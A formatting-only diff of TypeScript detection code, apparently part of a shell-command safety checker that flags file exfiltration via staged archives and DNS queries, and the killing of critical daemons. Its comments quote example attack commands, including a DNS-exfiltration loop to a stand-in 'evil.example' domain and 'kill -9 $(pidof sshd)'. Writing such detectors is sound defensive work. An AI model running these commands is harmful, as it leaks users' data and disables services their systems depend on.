@@ -36,11 +36,13 @@ function stagedUploads(cmds: readonly LineCommand[], workspace: string, add: Add
   for (const { command: c, effects } of cmds) {
     for (const e of effects) {
       if (e.kind === "read" && e.targets.some((t) => !t.startsWith(`${workspace}/`) && t !== workspace)) readOutside = true;
-      if (e.kind === "upload" && readOutside && (e.targets.length === 0 || e.targets.some((t) => written.has(t)))) add("exfiltration", "sends a file the call staged from files outside the workspace");
+      if (e.kind === "upload" && readOutside && (e.targets.length === 0 || e.targets.some((t) => written.has(t))))
+        add("exfiltration", "sends a file the call staged from files outside the workspace");
       if (e.kind === "overwrite" || e.kind === "download") for (const t of e.targets) written.add(t);
     }
     // `tar czf /tmp/x.tgz ...`: the archive written.
-    if (c.name === "tar" || c.name === "zip" || c.name === "7z") for (const a of c.args) if (/\.(tar|tgz|gz|zip|7z|bz2|xz)$/.test(a)) written.add(a.startsWith("/") ? a : `${c.cwd}/${a}`);
+    if (c.name === "tar" || c.name === "zip" || c.name === "7z")
+      for (const a of c.args) if (/\.(tar|tgz|gz|zip|7z|bz2|xz)$/.test(a)) written.add(a.startsWith("/") ? a : `${c.cwd}/${a}`);
   }
 }
 
@@ -55,12 +57,18 @@ function dnsExfiltration(cmds: readonly LineCommand[], add: Add): void {
     if (parent !== undefined && DNS_CLIENTS.has(parent.command.name)) add("exfiltration", "sends a file's content in DNS queries");
   }
   // `for l in $(xxd -p f); do dig $l.evil.example; done`: the name's first label is computed (read as empty).
-  if (reads.length > 0 && dns.some((ce) => ce.command.args.some((a) => /^\.[\w-]+\.[a-z]{2,}/i.test(a) || /\.\.[\w-]+\.[a-z]{2,}/i.test(a)))) add("exfiltration", "sends a file's content in DNS queries");
+  if (
+    reads.length > 0 &&
+    dns.some((ce) => ce.command.args.some((a) => /^\.[\w-]+\.[a-z]{2,}/i.test(a) || /\.\.[\w-]+\.[a-z]{2,}/i.test(a)))
+  )
+    add("exfiltration", "sends a file's content in DNS queries");
 }
 
 /** `kill -9 $(pidof sshd)`, a loop over `pgrep cron`: a critical daemon found by name and killed. */
 function killByLookup(cmds: readonly LineCommand[], add: Add): void {
-  const lookup = cmds.some((ce) => /^(pidof|pgrep)$/.test(ce.command.name) && ce.command.args.some((a) => !a.startsWith("-") && CRITICAL_SERVICES_RE.test(a)));
+  const lookup = cmds.some(
+    (ce) => /^(pidof|pgrep)$/.test(ce.command.name) && ce.command.args.some((a) => !a.startsWith("-") && CRITICAL_SERVICES_RE.test(a)),
+  );
   if (lookup && cmds.some((ce) => ce.command.name === "kill")) add("service_disruption", "kills a service the system needs");
 }
 
